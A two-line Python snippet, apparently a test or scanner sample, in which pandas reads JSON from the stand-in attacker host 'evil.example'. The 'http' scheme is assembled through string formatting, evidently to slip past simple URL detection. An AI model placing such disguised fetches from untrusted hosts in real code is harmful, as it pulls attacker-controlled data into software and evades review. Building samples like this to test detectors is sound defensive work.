import pandas as pd
pd.read_json("{}://evil.example".format("http"))
